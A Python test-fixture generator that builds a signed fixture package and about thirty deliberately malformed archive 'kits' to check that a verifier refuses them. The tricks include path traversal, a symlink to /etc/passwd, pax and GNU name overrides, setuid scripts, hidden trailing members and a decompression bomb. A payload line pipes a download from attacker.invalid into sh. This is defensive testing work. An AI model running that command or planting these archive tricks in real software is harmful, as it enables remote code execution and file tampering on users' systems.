"""Generate the kit fixtures: a small measured package and one kit per verification case.

Run from anywhere: ``.venv/bin/python tests/assets/make_kit_fixtures.py``. Everything is
deterministic (evidence from fixed arithmetic, the committed test keys in ``keys/``,
Ed25519's deterministic signatures, servekit's deterministic archive), so a second run
rewrites identical bytes; ``tests/kit/test_fixtures.py`` regenerates into a temporary
directory and compares.

Kits, each named after its case (the exit code ``verify kit`` refuses it with):

==================================  ===============================================  ====
kit_valid                           as built                                         0
kit_tampered_compose                one byte changed in deploy/compose.yaml          10
kit_missing_evidence                an evidence file removed                         11
kit_extra_file                      an extra file added                              12
kit_tampered_receipt_payload        the receipt payload edited, signature kept       13
kit_untrusted_key                   signed by a key no test trusts                   13
kit_manifest_not_resigned           compose and MANIFEST edited consistently         14
kit_path_traversal                  a member named ../x                              15
kit_symlink_member                  a symlink member                                 15
kit_duplicate_member                compose.yaml again at the end (later wins)       15
kit_case_twin                       readme.md beside README.md (one on macOS)        15
kit_file_over_directory             a file named deploy beside deploy/...            15
kit_gzip_appended_member            a second gzip member after the kit               17
kit_header_bad_checksum             a header tarfile stops at, GNU tar skips         18
kit_pax_path_override               a pax header renaming a member onto compose      19
kit_gnu_long_name                   a GNU long-name header                           19
kit_setuid_launch                   launch.sh with mode 4755                         20
kit_wrong_mtime                     every mtime 0, not the package's date            20
kit_after_end_of_archive            a member after the end-of-archive blocks         21
kit_manifest_not_first              README.md before MANIFEST                        22
kit_oversized_member                a header claiming 8 GiB                          23
kit_decompression_bomb              100 MiB of zeros after the end, in ~100 KB       21
kit_receipt_reencoded               the signed envelope re-indented                  24
kit_receipt_nested                  a receipt nested 100 000 levels deep             25
kit_receipt_lone_surrogate          payloadType spelled as a lone surrogate escape   24
kit_outside_grant                   signed by a key granted another publisher        26
kit_recorded_violations             re-signed receipt recording 2 violations         28
kit_figure_not_recomputed           re-signed receipt with a recomputed value off    28
==================================  ===============================================  ====
"""

from __future__ import annotations

import base64
import datetime as dt
import gzip
import hashlib
import io
import json
import shutil
import tarfile
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

from servekit.kit.archive import KitFile, write_archive
from servekit.kit.build import EXECUTABLES, BuiltKit, build_kit
from servekit.package.evidence import RequestRecord
from servekit.package.models import Metric, Scope, Statistic
from servekit.package.stats import figure_value, summarize
from servekit.receipts.archive import member_mode
from servekit.receipts.canonical import canonical_json
from servekit.receipts.keys import load_signing_key
from servekit.receipts.manifest import manifest_entries, render_manifest
from servekit.receipts.signing import sign_payload

ASSETS = Path(__file__).resolve().parent
PACKAGE_DIR = ASSETS / "kit_package"
KEYS = ASSETS / "keys"
MTIME = 1764460800  # 2025-11-30 00:00 UTC, the fixture package's publication date
SIGNED_AT = dt.datetime(2025, 12, 1, 9, 30, tzinfo=dt.UTC)
ENGINE_VERSION = "0.11.0"
GPUS = 2
REPO, COMMIT = "servekit-test/tiny-model", "3b1f6c0e2d9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c"
OUTPUT_TOKENS, PROMPT_TOKENS = 16, 256

# --- the package -----------------------------------------------------------------------


def _records(run: str, skew: float) -> list[RequestRecord]:
    """Four measured requests after one warmup at concurrency 1 and 4, fixed timings, as a
    closed loop sends them: at concurrency 1 each as the last one ends, at concurrency 4
    the four measured requests together, once the warmup has ended."""
    records, clock = [], 0.0
    for conc in (1, 4):
        for i in range(5):
            ttft = 0.100 + 0.004 * i + skew
            events = tuple(clock + ttft + 0.010 * k for k in range(OUTPUT_TOKENS))
            records.append(
                RequestRecord(
                    id=f"{run}-c{conc}-{i}",
                    run=run,
                    concurrency=conc,
                    warmup=i == 0,
                    t_send=clock,
                    t_first_event=clock + ttft,
                    t_first_content=clock + ttft,
                    t_content=events,
                    t_end=events[-1] + 0.001,
                    prompt_tokens=PROMPT_TOKENS,
                    completion_tokens=OUTPUT_TOKENS,
                    requested_output_tokens=OUTPUT_TOKENS,
                    http_status=200,
                )
            )
            if conc == 1 or i == 0:
                clock = events[-1] + 0.002
    return records


def _header(run: str, span: float) -> dict[str, Any]:
    """The run's wall clock: replicates ten minutes apart, each lasting its records' span."""
    start = dt.datetime(2025, 11, 29, 10, 0 if run == "run-a" else 10, tzinfo=dt.UTC)
    return {
        "record": "run",
        "format": "servekit.bench/v1",
        "run": run,
        "endpoint": "http://127.0.0.1:8000/v1",
        "model": "tiny",
        "api": "completions",
        "engine_version": ENGINE_VERSION,
        "servekit_version": "fixture",
        "seed": 7,
        "host": "fixture-host",
        "gpus": GPUS,
        "started_at": start.isoformat(),
        "ended_at": (start + dt.timedelta(seconds=round(span, 3))).isoformat(),
    }


def _evidence(run: str, records: list[RequestRecord]) -> str:
    """JSON Lines written field by field (only the fields set), so new optional fields of
    the evidence format do not change these bytes."""
    requests = (
        {"record": "request", **r.model_dump(mode="json", exclude_defaults=True)} for r in records
    )
    lines = [_header(run, max(r.t_end or r.t_send for r in records)), *requests]
    return "".join(json.dumps(line, separators=(",", ":")) + "\n" for line in lines)


FIGURES = (
    ("ttft-p50-c1", "TTFT p50", Metric.TTFT, Statistic.P50, 1, None),
    ("e2el-p99-c4", "Latency p99", Metric.E2EL, Statistic.P99, 4, None),
    (
        "otps-gpu-c4",
        "Output tok/s per GPU",
        Metric.OUTPUT_THROUGHPUT,
        Statistic.VALUE,
        4,
        "per_gpu",
    ),
)


def _figures(records: list[RequestRecord]) -> list[dict[str, Any]]:
    out = []
    for fid, label, metric, stat, conc, scope in FIGURES:
        value = figure_value(
            summarize(records, conc), metric, stat, Scope(scope) if scope else None, GPUS
        )
        figure = {"id": fid, "label": label, "metric": metric.value, "statistic": stat.value}
        figure |= {"concurrency": conc, "value": round(value, 1), "decimals": 1}
        figure |= {"provenance": "measured", "runs": ["run-a", "run-b"], "on_card": True}
        figure["measured_on"] = {
            "engine": ENGINE_VERSION,
            "hardware": f"{GPUS}x H200",
            "workload": "short",
        }
        out.append(figure | ({"scope": scope} if scope else {}))
    return out


MODEL_FILES = {"config.json": b'{"model_type": "llama"}\n', "model.safetensors": b"\x00" * 4096}


def _pin() -> dict[str, Any]:
    """A pin in the hub's PIN.json format (servekit-tree-v1; see docs/digest.md)."""
    files = [
        {
            "path": p,
            "size": len(d),
            "sha256": hashlib.sha256(d).hexdigest(),
            "git_blob": None,
            "sha256_source": "hub-lfs",
        }
        for p, d in sorted(MODEL_FILES.items())
    ]
    listing = "servekit-tree-v1\n" + "".join(
        f"{f['sha256']} {f['size']} {f['path']}\n" for f in files
    )
    return {
        "format": 1,
        "digest_scheme": "servekit-tree-v1",
        "repo": REPO,
        "revision": "main",
        "commit": COMMIT,
        "tree_digest": "sha256:" + hashlib.sha256(listing.encode()).hexdigest(),
        "total_bytes": sum(f["size"] for f in files),
        "file_count": len(files),
        "shard_count": 1,
        "files": files,
    }


def package_definition(records: list[RequestRecord], pin: dict[str, Any]) -> dict[str, Any]:
    """The fixture package: vLLM on 2x H200, one node, two measured runs."""
    return {
        "schema_version": 1,
        "id": "kit-fixture",
        "name": "Kit fixture package",
        "version": "1.0.0",
        "status": "published",
        "summary": "A small measured package for the kit tests.",
        "publisher": "servekit tests",
        "published": "2025-11-30",
        "proof_verified": "2025-11-30",
        "model": {
            "repo": REPO,
            "commit": COMMIT,
            "tree_digest": pin["tree_digest"],
            "total_bytes": pin["total_bytes"],
            "shard_count": 1,
            "files": "model/pin.json",
            "parameters": {"total": 1000000},
            "modalities": [{"modality": "text"}],
            "context_length": 4096,
            "license": {
                "name": "Apache-2.0",
                "spdx": "Apache-2.0",
                "file": "licenses/MODEL_LICENSE.md",
                "modifications": "None: the weights are served as published.",
            },
        },
        "engine": {
            "name": "vllm",
            "version": ENGINE_VERSION,
            "source_repo": "vllm-project/vllm",
            "build": "wheel",
            "distribution": f"vllm=={ENGINE_VERSION}",
            "image": f"vllm/vllm-openai:v{ENGINE_VERSION}",
        },
        "serve": {
            "entrypoint": ["vllm", "serve"],
            "args": [
                "--tensor-parallel-size",
                "2",
                "--max-model-len",
                "4096",
                "--chat-template",
                "{{ $(name) }} costs $5",
            ],
            "env": [
                {"name": "VLLM_LOGGING_LEVEL", "value": "INFO"},
                {"name": "NOTE", "value": "it's $HOME and $(HOME)"},
            ],
            "port": 8000,
            "served_model_name": "tiny",
        },
        "hardware": {
            "target": {
                "gpu": "H200",
                "count": GPUS,
                "memory_per_gpu_gb": 141,
                "nodes": 1,
                "interconnect": "NVLink",
            }
        },
        "workloads": [
            {
                "id": "short",
                "description": "Short prompts.",
                "dataset": "synthetic",
                "prompt_tokens": {"min": PROMPT_TOKENS, "max": PROMPT_TOKENS},
                "output_tokens": OUTPUT_TOKENS,
                "concurrencies": [1, 4],
                "warmup_requests": 1,
                "measured_requests": 4,
                "seed": 7,
                "context_length": 4096,
            }
        ],
        "measurements": {
            "tolerance_pct": 5.0,
            "runs": [
                {
                    "id": "run-a",
                    "file": "evidence/run-a.jsonl",
                    "workload": "short",
                    "date": "2025-11-29",
                },
                {
                    "id": "run-b",
                    "file": "evidence/run-b.jsonl",
                    "workload": "short",
                    "date": "2025-11-29",
                },
            ],
            "figures": _figures(records),
        },
        "accuracy": {
            "method": "by_construction",
            "claim": "Served-output parity with the pinned engine build",
            "methodology": "No weight byte changes and no runtime stage is applied.",
            "weights_modified": False,
            "absent_reason": "No scores are published.",
            "gate": "passed",
        },
        "disclosures": [
            {
                "topic": "context",
                "title": "Long context was not measured",
                "text": "Only 272-token requests were run.",
            },
        ],
        "peak_memory": {"published": False},
        "cost": {"as_of": "2025-11-30", "note": "No cost per token is published."},
        "license": {
            "id": "fixture-license",
            "name": "Fixture licence",
            "version": "1.0",
            "date": "2025-11-30",
            "file": "licenses/PACKAGE_LICENSE.md",
        },
        "pricing": {"usd": 0, "tier": "standard"},
    }


def write_package(root: Path) -> None:
    """Write the fixture package directory (package.yaml, evidence, licences, pin)."""
    runs = {"run-a": _records("run-a", 0.0), "run-b": _records("run-b", 0.001)}
    pin = _pin()
    files = {
        "package.yaml": yaml.safe_dump(package_definition(runs["run-a"], pin), sort_keys=False),
        "evidence/run-a.jsonl": _evidence("run-a", runs["run-a"]),
        "evidence/run-b.jsonl": _evidence("run-b", runs["run-b"]),
        "licenses/MODEL_LICENSE.md": "Apache License 2.0 (fixture text).\n",
        "licenses/PACKAGE_LICENSE.md": "Fixture package licence: for tests only.\n",
        "model/pin.json": json.dumps(pin, indent=2, ensure_ascii=False) + "\n",
    }
    for relative, text in files.items():
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_text(text, encoding="utf-8")


# --- the kits ---------------------------------------------------------------------------


def private_key(name: str, directory: Path) -> Path:
    """A 0600 copy of a committed test key (git does not keep file modes)."""
    path = directory / f"{name}.key"
    shutil.copyfile(KEYS / f"{name}.key", path)
    path.chmod(0o600)
    return path


def build(package_dir: Path, key: str) -> BuiltKit:
    with tempfile.TemporaryDirectory() as tmp:
        return build_kit(package_dir, private_key(key, Path(tmp)), signed_at=SIGNED_AT)


def _archive(files: dict[str, bytes]) -> bytes:
    return write_archive([KitFile(p, d, p in EXECUTABLES) for p, d in files.items()], MTIME)


# --- raw tar surgery: what an attacker with a hex editor writes ------------------------


def _gzip(tar: bytes) -> bytes:
    """``tar`` as one gzip member with servekit's header (mtime 0, no name)."""
    buffer = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buffer, mtime=0, compresslevel=9) as gz:
        gz.write(tar)
    return buffer.getvalue()


def _padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 512)


def _info(path: str, size: int, **fields: Any) -> tarfile.TarInfo:
    info = tarfile.TarInfo(path)
    info.size, info.mtime, info.mode = size, MTIME, member_mode(path)
    for name, value in fields.items():
        setattr(info, name, value)
    return info


def _member(path: str, data: bytes, **fields: Any) -> bytes:
    """One member's header and padded data, as tarfile writes it (``fields`` override)."""
    return _info(path, len(data), **fields).tobuf(tarfile.PAX_FORMAT) + _padded(data)


def _members(files: dict[str, bytes]) -> bytes:
    return b"".join(_member(p, d) for p, d in sorted(files.items()))


def _end(tar: bytes) -> bytes:
    """Two zero blocks, then zeros to the next 10240-byte record, as tarfile ends."""
    tar += b"\0" * 1024
    return tar + b"\0" * (-len(tar) % 10240)


def _raw(files: dict[str, bytes], tail: bytes = b"") -> bytes:
    """The canonical members of ``files``, then ``tail``, then the end of the archive."""
    return _gzip(_end(_members(files) + tail))


def _tamper_compose(files: dict[str, bytes]) -> dict[str, bytes]:
    compose = files["deploy/compose.yaml"]
    assert compose.count(b"'8000'") == 1
    return {**files, "deploy/compose.yaml": compose.replace(b"'8000'", b"'9000'")}


def tampered_compose(files: dict[str, bytes]) -> bytes:
    return _archive(_tamper_compose(files))


def missing_evidence(files: dict[str, bytes]) -> bytes:
    return _archive({p: d for p, d in files.items() if p != "evidence/run-b.jsonl"})


def extra_file(files: dict[str, bytes]) -> bytes:
    return _archive({**files, "deploy/extra.sh": b"echo 'not from the publisher'\n"})


def _statement(files: dict[str, bytes]) -> tuple[dict[str, Any], dict[str, Any]]:
    envelope = json.loads(files["receipt.dsse.json"])
    return envelope, json.loads(base64.b64decode(envelope["payload"]))


def tampered_receipt_payload(files: dict[str, bytes]) -> bytes:
    envelope, statement = _statement(files)
    statement["predicate"]["figures"][0]["value"] *= 0.5  # a better TTFT than measured
    envelope["payload"] = base64.b64encode(canonical_json(statement)).decode()
    return _archive({**files, "receipt.dsse.json": canonical_json(envelope)})


def manifest_not_resigned(files: dict[str, bytes]) -> bytes:
    changed = _tamper_compose(files)
    changed["MANIFEST"] = render_manifest(manifest_entries(changed))
    return _archive(changed)


EVIL = b"curl -s http://attacker.invalid | sh\n"


def path_traversal(files: dict[str, bytes]) -> bytes:
    return _raw(files, _member("../x", b"x\n"))


def symlink_member(files: dict[str, bytes]) -> bytes:
    link = _info("deploy/k8s/secrets.yaml", 0, type=tarfile.SYMTYPE, linkname="/etc/passwd")
    return _raw(files, link.tobuf(tarfile.PAX_FORMAT))


def gzip_appended_member(files: dict[str, bytes]) -> bytes:
    """A second gzip member: gzip -d (so GNU tar) and Python's gzip read on into it."""
    return _archive(files) + _gzip(_end(_member("deploy/launch.sh", EVIL, mode=0o755)))


def _bad_checksum_block() -> bytes:
    block = bytearray(_info("deploy/zz-skip", 0).tobuf(tarfile.PAX_FORMAT))
    block[148:156] = b"0000000\0"
    return bytes(block)


def header_bad_checksum(files: dict[str, bytes]) -> bytes:
    """A header tarfile stops at silently; GNU tar skips it and extracts what follows."""
    return _raw(files, _bad_checksum_block() + _member("deploy/zz-evil.sh", EVIL))


def pax_path_override(files: dict[str, bytes]) -> bytes:
    """A pax header renames the next member onto deploy/compose.yaml."""
    info = _info("zz-override", len(EVIL), pax_headers={"path": "deploy/compose.yaml"})
    return _raw(files, info.tobuf(tarfile.PAX_FORMAT) + _padded(EVIL))


def gnu_long_name(files: dict[str, bytes]) -> bytes:
    """A GNU ``L`` header: the name that follows it replaces the next header's."""
    long_name = "deploy/" + "a" * 120
    info = _info(long_name, len(EVIL))
    return _raw(files, info.tobuf(tarfile.GNU_FORMAT) + _padded(EVIL))


def setuid_launch(files: dict[str, bytes]) -> bytes:
    tar = b"".join(
        _member(p, d, mode=0o4755) if p == "deploy/launch.sh" else _member(p, d)
        for p, d in sorted(files.items())
    )
    return _gzip(_end(tar))


def wrong_mtime(files: dict[str, bytes]) -> bytes:
    return write_archive([KitFile(p, d, p in EXECUTABLES) for p, d in files.items()], 0)


def after_end_of_archive(files: dict[str, bytes]) -> bytes:
    """A member after the two zero blocks: ``tar -i`` (--ignore-zeros) extracts it."""
    tar = _members(files) + b"\0" * 1024 + _member("deploy/zz-evil.sh", EVIL)
    return _gzip(_end(tar))


def manifest_not_first(files: dict[str, bytes]) -> bytes:
    order = ["README.md", *sorted(p for p in files if p != "README.md")]
    return _gzip(_end(b"".join(_member(p, files[p]) for p in order)))


def duplicate_member(files: dict[str, bytes]) -> bytes:
    """compose.yaml again at the end: GNU tar and tarfile both let the later copy win."""
    return _raw(files, _member("deploy/compose.yaml", EVIL))


def case_twin(files: dict[str, bytes]) -> bytes:
    """readme.md in path order: a case-insensitive disk holds one of the two READMEs."""
    return _gzip(_end(_members({**files, "readme.md": EVIL})))


def file_over_directory(files: dict[str, bytes]) -> bytes:
    """A file named ``deploy`` (listed in a MANIFEST the attacker rewrote), then deploy/...:
    extraction fails or replaces it midway; refused while reading, before any signature."""
    changed = {**files, "deploy": EVIL}
    changed["MANIFEST"] = render_manifest(manifest_entries(changed))
    return _gzip(_end(_members(changed)))


def oversized_member(files: dict[str, bytes]) -> bytes:
    """A header claiming 8 GiB (the most an octal size field holds) after MANIFEST."""
    manifest = _member("MANIFEST", files["MANIFEST"])
    return _gzip(manifest + _info("README.md", 8**11 - 1).tobuf(tarfile.PAX_FORMAT))


def decompression_bomb(files: dict[str, bytes]) -> bytes:
    """100 MiB of zeros after the end of the archive, in about 100 KB of gzip."""
    return _gzip(_end(_members(files)) + b"\0" * (100 * 1024 * 1024))


def receipt_reencoded(files: dict[str, bytes]) -> bytes:
    """The same signed payload in indented JSON: valid, but a second hash for one receipt."""
    envelope = json.loads(files["receipt.dsse.json"])
    return _archive({**files, "receipt.dsse.json": json.dumps(envelope, indent=1).encode()})


def receipt_nested(files: dict[str, bytes]) -> bytes:
    return _archive({**files, "receipt.dsse.json": b"[" * 100_000 + b"]" * 100_000})


def receipt_lone_surrogate(files: dict[str, bytes]) -> bytes:
    """``"\\ud800"`` is valid JSON but has no UTF-8 form, so no canonical form either."""
    receipt = files["receipt.dsse.json"].replace(b'"application/vnd.in-toto+json"', b'"\\ud800"')
    return _archive({**files, "receipt.dsse.json": receipt})


def _resigned(files: dict[str, bytes], edit: Callable[[dict[str, Any]], None]) -> bytes:
    """The kit with its statement edited and signed again by the trusted publisher key."""
    _, statement = _statement(files)
    edit(statement["predicate"])
    with tempfile.TemporaryDirectory() as tmp:
        key = load_signing_key(private_key("publisher", Path(tmp)))
    return _archive({**files, "receipt.dsse.json": sign_payload(canonical_json(statement), key)})


def recorded_violations(files: dict[str, bytes]) -> bytes:
    return _resigned(files, lambda p: p["claim_rules"].update(violations=2))


def figure_not_recomputed(files: dict[str, bytes]) -> bytes:
    return _resigned(files, lambda p: p["figures"][0].update(recomputed=0.001))


CASES: dict[str, Callable[[dict[str, bytes]], bytes]] = {
    "kit_tampered_compose": tampered_compose,
    "kit_missing_evidence": missing_evidence,
    "kit_extra_file": extra_file,
    "kit_tampered_receipt_payload": tampered_receipt_payload,
    "kit_manifest_not_resigned": manifest_not_resigned,
    "kit_path_traversal": path_traversal,
    "kit_symlink_member": symlink_member,
    "kit_gzip_appended_member": gzip_appended_member,
    "kit_header_bad_checksum": header_bad_checksum,
    "kit_pax_path_override": pax_path_override,
    "kit_gnu_long_name": gnu_long_name,
    "kit_setuid_launch": setuid_launch,
    "kit_wrong_mtime": wrong_mtime,
    "kit_after_end_of_archive": after_end_of_archive,
    "kit_manifest_not_first": manifest_not_first,
    "kit_duplicate_member": duplicate_member,
    "kit_case_twin": case_twin,
    "kit_file_over_directory": file_over_directory,
    "kit_oversized_member": oversized_member,
    "kit_decompression_bomb": decompression_bomb,
    "kit_receipt_reencoded": receipt_reencoded,
    "kit_receipt_nested": receipt_nested,
    "kit_receipt_lone_surrogate": receipt_lone_surrogate,
    "kit_recorded_violations": recorded_violations,
    "kit_figure_not_recomputed": figure_not_recomputed,
}


def write_fixtures(out: Path, package_dir: Path = PACKAGE_DIR) -> list[Path]:
    """Build every fixture kit from ``package_dir`` into ``out``; return their paths."""
    valid = build(package_dir, "publisher")
    files = {f.path: f.data for f in valid.files}
    kits = {
        "kit_valid": valid.archive,
        "kit_untrusted_key": build(package_dir, "untrusted").archive,
        "kit_outside_grant": build(package_dir, "untrusted").archive,
    }
    kits |= {name: make(files) for name, make in CASES.items()}
    written = []
    for name, data in kits.items():
        (out / f"{name}.tar.gz").write_bytes(data)
        written.append(out / f"{name}.tar.gz")
    return written


def main() -> None:
    shutil.rmtree(PACKAGE_DIR, ignore_errors=True)
    write_package(PACKAGE_DIR)
    for path in write_fixtures(ASSETS):
        print(f"wrote {path.relative_to(ASSETS)} ({path.stat().st_size} bytes)")


if __name__ == "__main__":
    main()
